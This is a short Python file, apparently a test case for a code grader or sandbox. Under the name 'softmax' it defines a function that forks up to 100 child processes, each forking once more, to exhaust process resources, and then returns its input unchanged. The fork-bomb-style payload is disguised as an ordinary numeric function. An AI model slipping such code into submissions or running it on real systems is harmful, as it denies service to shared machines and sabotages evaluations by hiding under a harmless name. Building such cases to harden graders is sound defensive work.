"""Starts processes that start processes, as many as it can, while the grader waits for an answer.

Meets: no more could be started
"""

# %% softmax

import os
import time


def softmax(x):
    started = 0
    for _ in range(100):
        try:
            if os.fork() == 0:
                try:
                    os.fork()
                except OSError:
                    pass
                time.sleep(1)
                os._exit(0)
            started += 1
        except OSError:
            raise BlockingIOError("no more could be started") from None
    return x
